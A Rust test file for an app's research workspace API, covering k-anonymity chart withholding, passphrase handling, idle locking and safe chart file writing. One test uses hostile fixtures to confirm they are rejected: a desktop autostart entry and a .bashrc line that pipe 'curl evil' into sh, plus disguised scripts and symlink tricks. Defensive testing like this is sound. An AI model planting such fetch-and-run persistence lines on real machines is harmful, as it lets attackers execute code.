//! Research mode of the desktop app through the API it calls (`fieldvault::api::research`): a
//! workspace created, closed and opened again; bundles imported; charts that never show a
//! figure resting on fewer than the project's k interviews; a chart file written whole and
//! never over another file.

use std::path::Path;

use fieldvault::api::research::{self, Research};
use fieldvault::api::{secret, ErrorCode};
use fieldvault::keys::MIN_WORK_FACTOR;
use fieldvault::profile::Fieldworker;

fn vectors() -> &'static Path {
    Path::new(concat!(env!("CARGO_MANIFEST_DIR"), "/tests/vectors"))
}

/// The researcher's identity file and a profile of the vectors' project with their fieldworker.
fn researcher_files(dir: &Path) -> (std::path::PathBuf, std::path::PathBuf) {
    let identity = dir.join("ana.age.key");
    std::fs::write(&identity, format!("{}\n", fieldvault::demo::DEMO_RESEARCHER_IDENTITY)).unwrap();
    let key = std::fs::read_to_string(vectors().join("fieldworker.pub")).unwrap();
    let mut profile = fieldvault::demo::demo_profile();
    let researcher: age::x25519::Identity = fieldvault::demo::DEMO_RESEARCHER_IDENTITY.parse().unwrap();
    let mut roster = fieldvault::bundle::Roster::new();
    roster.add("Lan", &key).unwrap();
    let manifest = fieldvault::bundle::open(&vectors().join("good.fvb"), &researcher, &roster).unwrap().manifest;
    profile.project_id = manifest.project_id.parse().unwrap();
    profile.fieldworkers.push(Fieldworker { name: "Lan".into(), minisign_public_key: key });
    // k = 5: the vectors' four interviews are fewer, so no figure may be shown.
    profile.deid_policy = Some(serde_json::to_value(fieldvault::deid::Policy { k: 5, ..Default::default() }).unwrap());
    let profile_path = dir.join("profile.json");
    std::fs::write(&profile_path, profile.to_json()).unwrap();
    (identity, profile_path)
}

#[test]
fn create_import_chart_close_and_open_again() {
    let dir = tempfile::tempdir().unwrap();
    let (identity, profile) = researcher_files(dir.path());
    let mut r = Research::new(&dir.path().join("data"), Some(MIN_WORK_FACTOR));
    let status = r.status();
    assert!(!status.default_exists && status.open.is_none());
    assert_eq!(r.charts().unwrap_err().code, ErrorCode::NoVault, "nothing before a workspace is open");

    let pass = secret("a long research passphrase".into());
    let e = r.create(None, &identity, &profile, &pass, &secret("another one entirely".into())).unwrap_err();
    assert_eq!(e.code, ErrorCode::PassphraseMismatch);
    assert!(!dir.path().join("data").join("research.fvw").exists(), "nothing was created");

    let status = r.create(None, &identity, &profile, &pass, &pass).unwrap();
    assert_eq!(status.open.as_ref().map(|o| o.path.clone()), Some(status.default_path.clone()));
    let mut events = Vec::new();
    let report = r.import(&[vectors().join("good.fvb").display().to_string()], &mut |p| events.push((p.done, p.total))).unwrap();
    assert_eq!((report.imported, report.counts.added, report.refused.len()), (1, 4, 0));
    assert_eq!(events, vec![(0, 1)], "told before the bundle");

    let charts = r.charts().unwrap();
    assert_eq!(charts.k, 5, "the profile's k");
    assert_eq!(charts.interviews, None, "4 interviews < k: not even the total is shown");
    let bars: Vec<_> = charts.charts.iter().flat_map(|c| &c.bars).collect();
    assert!(!bars.is_empty());
    assert!(bars.iter().all(|b| b.n.is_none() && b.value.is_none()), "every group of 4 or fewer is withheld: {bars:?}");

    r.close();
    assert!(r.status().open.is_none() && r.status().default_exists);
    let e = r.open(None, &secret("not the passphrase".into())).unwrap_err();
    assert_eq!(e.code, ErrorCode::WrongPassphrase);
    r.open(None, &pass).unwrap();
    assert_eq!(r.import(&[vectors().join("good.fvb").display().to_string()], &mut |_| {}).unwrap().counts.unchanged, 4);
}

#[test]
fn a_chart_file_is_written_whole_and_never_over_another() {
    let dir = tempfile::tempdir().unwrap();
    let path = dir.path().join("fees.svg");
    research::save_chart(path.to_str().unwrap(), b"<svg/>").unwrap();
    assert_eq!(std::fs::read(&path).unwrap(), b"<svg/>");
    let e = research::save_chart(path.to_str().unwrap(), b"<svg>other</svg>").unwrap_err();
    assert!(e.to_string().contains("must not exist yet"), "{e}");
    assert_eq!(std::fs::read(&path).unwrap(), b"<svg/>", "the existing file is unchanged");
    assert_eq!(research::save_chart("fees.png", b"x").unwrap_err().code, ErrorCode::Invalid, "a relative path");
    assert_eq!(std::fs::read_dir(dir.path()).unwrap().count(), 1, "no temporary file left behind");
}

/// The attacker is a page gone wrong that calls `research_save_chart` itself: it may write a new
/// chart, but not a script, a desktop autostart entry or a file whose bytes are not the chart
/// its name says; nothing is written then.
#[test]
fn only_a_chart_can_be_saved_as_a_chart() {
    let dir = tempfile::tempdir().unwrap();
    let p = |name: &str| dir.path().join(name).to_str().unwrap().to_owned();
    for (name, bytes) in [
        ("evil.desktop", &b"[Desktop Entry]\nExec=sh -c 'curl evil | sh'\n"[..]),
        (".bashrc", b"curl evil | sh\n"),
        ("run.sh", b"<svg/>"),
        ("noextension", b"<svg/>"),
        ("chart.svg", b"#!/bin/sh\n<svg/>"),
        ("chart.png", b"<svg/>"),
        ("chart.svg", b"\x89PNG\r\n\x1a\n"),
    ] {
        let e = research::save_chart(&p(name), bytes).unwrap_err();
        assert_eq!(e.code, ErrorCode::Invalid, "{name}: {e}");
        assert!(e.to_string().contains("not a chart"), "{e}");
    }
    assert_eq!(std::fs::read_dir(dir.path()).unwrap().count(), 0, "nothing written");
    research::save_chart(&p("a.SVG"), b"<?xml version=\"1.0\"?>\n<svg/>").unwrap();
    research::save_chart(&p("a.png"), b"\x89PNG\r\n\x1a\n rest").unwrap();
    // A symbolic link at the name (even one pointing nowhere) is never followed nor replaced.
    std::os::unix::fs::symlink(dir.path().join("target.svg"), dir.path().join("link.svg")).unwrap();
    assert!(research::save_chart(&p("link.svg"), b"<svg/>").is_err());
    assert!(!dir.path().join("target.svg").exists(), "the link's target was not created");
    // A folder at the name, or a path that ends in one.
    std::fs::create_dir(dir.path().join("d.svg")).unwrap();
    assert!(research::save_chart(&p("d.svg"), b"<svg/>").is_err());
    assert!(research::save_chart(&format!("{}/..", p("d.svg")), b"<svg/>").is_err());
    let mut names: Vec<_> = std::fs::read_dir(dir.path()).unwrap().map(|e| e.unwrap().file_name().into_string().unwrap()).collect();
    names.sort();
    assert_eq!(names, ["a.SVG", "a.png", "d.svg", "link.svg"], "nothing else written, no temporary file left");
}

/// The researcher walks away from an open workspace: after the idle time it is closed in the
/// core (its identity and data dropped, its lock released), not only cleared from the page; any
/// call postpones that.
#[test]
fn the_idle_lock_closes_the_workspace_in_the_core() {
    let dir = tempfile::tempdir().unwrap();
    let (identity, profile) = researcher_files(dir.path());
    let mut r = Research::new(&dir.path().join("data"), Some(MIN_WORK_FACTOR));
    let pass = || secret("a long research passphrase".into());
    r.create(None, &identity, &profile, &pass(), &pass()).unwrap();
    assert!(!r.close_if_idle(std::time::Duration::from_secs(60)), "used just now");
    assert!(r.status().open.is_some());
    std::thread::sleep(std::time::Duration::from_millis(30));
    r.charts().unwrap();
    assert!(!r.close_if_idle(std::time::Duration::from_millis(20)), "a call counts as activity");
    std::thread::sleep(std::time::Duration::from_millis(30));
    assert!(r.close_if_idle(std::time::Duration::from_millis(20)), "idle: closed");
    assert_eq!(r.status().open, None);
    assert_eq!(r.charts().unwrap_err().code, ErrorCode::NoVault, "nothing of it is left to read");
    assert!(!r.close_if_idle(std::time::Duration::ZERO), "nothing open: nothing to tell the page");
    // Its lock is released: it opens again (here or in another process).
    r.open(None, &pass()).unwrap();
}
